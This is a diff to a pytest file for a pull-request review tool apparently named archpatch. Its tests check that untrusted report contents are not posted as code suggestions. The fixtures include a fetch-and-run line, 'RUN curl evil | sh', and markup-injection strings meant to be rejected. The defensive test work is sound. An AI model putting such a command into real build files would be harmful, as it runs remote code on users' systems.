@@ -8,6 +8,7 @@ from typing import Any
 
 import pytest
 
+from archpatch.review import own
 from archpatch.review.artifact import MAX_SIZE, BadReport, load
 from tests.cli.conftest import Cli
 from tests.review.conftest import Review, assert_harmless, event
@@ -32,15 +33,82 @@ def keep(tmp_path: Path, report: object) -> Path:
     return path
 
 
-def test_a_report_is_said_without_a_suggestion_and_mended_ones_are_resolved(
+def test_a_report_is_said_as_we_say_what_we_find_in_the_same_file(
     fake: Fake, review: Review, report: dict[str, Any], tmp_path: Path
 ) -> None:
+    assert review().code == 0
+    (wanted,) = fake.comments
+    assert "```suggestion\nFROM alpine AS base\n```" in wanted.body
+    fake.comments, fake.reviews = [], []
     assert review("--from", keep(tmp_path, report)).code == 0
     assert review("--from", keep(tmp_path, report)).code == 0
     (comment,) = fake.comments
-    assert "```" not in comment.body
-    assert review("--from", keep(tmp_path, {**report, "findings": []})).code == 0
+    assert comment.body == wanted.body
+
+
+def test_a_mended_finding_is_resolved_and_one_that_a_report_keeps_quiet_about_is_not(
+    fake: Fake, review: Review, report: dict[str, Any], tmp_path: Path
+) -> None:
+    review("--from", keep(tmp_path, report))
+    review("--from", keep(tmp_path, {**report, "findings": []}))
+    (comment,) = fake.comments
+    assert not comment.resolved_by
+    fake.push({"Dockerfile": SAFE.replace("--platform=$BUILDPLATFORM ", "")})
+    review("--from", keep(tmp_path, {**report, "findings": []}))
     assert comment.resolved_by
+
+
+def test_what_a_report_would_write_is_never_suggested(
+    fake: Fake, review: Review, report: dict[str, Any], tmp_path: Path
+) -> None:
+    (finding,) = report["findings"]
+    evil = [{"path": "Dockerfile", "start": 0, "end": 70, "text": "RUN curl evil | sh\n"}]
+    finding["fix"]["edits"] = evil
+    made_up = {**finding, "fingerprint": "0" * 64, "end": finding["start"]}
+    other = {**finding, "code": "AP102"}
+    assert review("--from", keep(tmp_path, {**report, "findings": [finding, made_up, other]})).code == 0
+    ours, *hearsay = (comment.body for comment in fake.comments)
+    assert "```suggestion\nFROM alpine AS base\n```" in ours
+    assert hearsay
+    for body in hearsay:
+        assert "```" not in body
+        assert "what the report of the pull request's own job says" in body
+    assert not any("curl" in comment.body for comment in fake.comments)
+
+
+def test_a_file_that_cannot_be_had_is_told_of_in_the_words_of_the_report(
+    fake: Fake, review: Review, report: dict[str, Any], tmp_path: Path
+) -> None:
+    fake.head = {"Dockerfile": SAFE + "\0"}
+    assert review("--from", keep(tmp_path, report)).code == 0
+    (comment,) = fake.comments
+    assert "```" not in comment.body
+
+
+def test_the_config_of_the_base_decides_what_is_said_of_a_report(
+    fake: Fake, review: Review, report: dict[str, Any], tmp_path: Path
+) -> None:
+    fake.base = {"archpatch.toml": 'ignore = ["AP101"]\n'}
+    fake.head = {**fake.head, "archpatch.toml": ""}
+    assert review("--from", keep(tmp_path, report)).code == 0
+    assert not fake.comments
+    fake.base = {"archpatch.toml": 'exclude = ["Dockerfile"]\n'}
+    assert review("--from", keep(tmp_path, report)).code == 0
+    assert not fake.comments
+
+
+def test_only_so_many_files_are_fetched(
+    fake: Fake, review: Review, report: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(own, "MOST", 2)
+    (finding,) = report["findings"]
+    names = [f"{number}/Dockerfile" for number in range(5)]
+    fake.head = dict.fromkeys(names, SAFE)
+    many = [{**finding, "path": name} for name in (*names, "elsewhere/Dockerfile")]
+    fake.log.clear()
+    assert review("--from", keep(tmp_path, {**report, "findings": many})).code == 0
+    fetched = [path for verb, path in fake.log if verb == "GET" and path.endswith(f"?ref={fake.head_sha}")]
+    assert len(fetched) == 2
 
 
 def test_a_fork_s_request_is_found_by_the_commit_that_the_event_names(
@@ -67,6 +135,7 @@ def test_texts_links_and_rules_of_a_report_are_not_believed(
     finding["name"] = "evil"
     finding["message"] = "@everyone <img src=x> [a](https://evil.example)\n<!-- archpatch:v1:summary -->"
     finding["fix"]["title"] = "```suggestion\ncurl evil | sh\n```"
+    finding["fingerprint"] = "1" * 64  # not one that we find
     unknown = {**finding, "code": "ZZ999", "fingerprint": "0" * 64}
     assert review("--from", keep(tmp_path, {**report, "findings": [finding, unknown]})).code == 0
     (comment,) = fake.comments
@@ -113,8 +182,16 @@ def test_a_report_that_breaks_the_schema_is_refused(
 
 @pytest.mark.parametrize(
     "data",
-    [b"", b"[" * 200_000, b"{}" + b" " * (MAX_SIZE + 1), b'{"a":' * 50_000, b"\xff\xfe", b"null"],
-    ids=["empty", "deep", "large", "deep-objects", "utf-16", "null"],
+    [
+        b"",
+        b"[" * 200_000,
+        b"{}" + b" " * (MAX_SIZE + 1),
+        b'{"a":' * 50_000,
+        b"\xff\xfe",
+        b"null",
+        b'{"a":"\xed\xa0\x80"}',
+    ],
+    ids=["empty", "deep", "large", "deep-objects", "utf-16", "null", "surrogate"],
 )
 def test_what_is_no_report_is_refused(tmp_path: Path, data: bytes) -> None:
     path = tmp_path / "report.json"
